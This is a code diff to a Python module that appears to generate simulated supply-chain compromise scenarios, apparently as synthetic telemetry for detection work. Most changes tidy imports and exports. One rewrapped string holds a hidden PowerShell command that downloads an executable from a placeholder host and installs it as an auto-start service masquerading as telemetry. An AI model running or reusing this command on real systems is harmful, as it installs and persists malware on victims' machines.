@@ -1,10 +1,9 @@
 # SPDX-License-Identifier: Apache-2.0
 """Products that do as promised, and later bring something nobody ordered."""
 
-from engine import DAY, HOUR, MINUTE
-from office import CMD, IPCONFIG, POWERSHELL, RUNDLL32, SCHTASKS, TASKLIST, every, restart, use
-from setup import (beacon, by_agent, download, erase, fetch_file, file_name, inno, kill, make_updater, msi, remove_inno,
-                   remove_msi, setup_program, vendor_calls)
+from engine import HOUR, MINUTE
+from office import CMD, POWERSHELL, RUNDLL32, SCHTASKS, restart
+from setup import beacon, by_agent, download, fetch_file, file_name, inno, make_updater, msi, vendor_calls
 from shippers import EventXml, FlatJson
 from tales import tale
 from things import UNSIGNED, Program, Service, product
@@ -200,7 +199,8 @@ def powershell_after_restart(s):
         url = f"https://cdn.{far}/t/wtel.exe"
         shell = host.start(POWERSHELL, process, "powershell.exe -NoP -W Hidden -C \"iwr "
                            f"{url} -OutFile C:\\ProgramData\\WinTelemetry\\wtel.exe; "
-                           "sc.exe create WinTelSvc binPath= 'C:\\ProgramData\\WinTelemetry\\wtel.exe -k' start= auto\"")
+                           "sc.exe create WinTelSvc binPath= 'C:\\ProgramData\\WinTelemetry\\wtel.exe -k' "
+                           "start= auto\"")
         yield 3
         host.connect(shell, f"cdn.{far}", 443, 900, 2_900_000)
         yield 5
@@ -293,7 +293,3 @@ def msiexec_foreign_package(s):
     s.link("the implant", bad.main)
     s.link("what starts the implant", "csvcx", "Certification Version Service")
     s.link("whom it calls", far)
-
-
-__all__ = ["DAY", "IPCONFIG", "TASKLIST", "UNSIGNED", "erase", "every", "kill", "remove_inno", "remove_msi",
-           "setup_program", "use"]
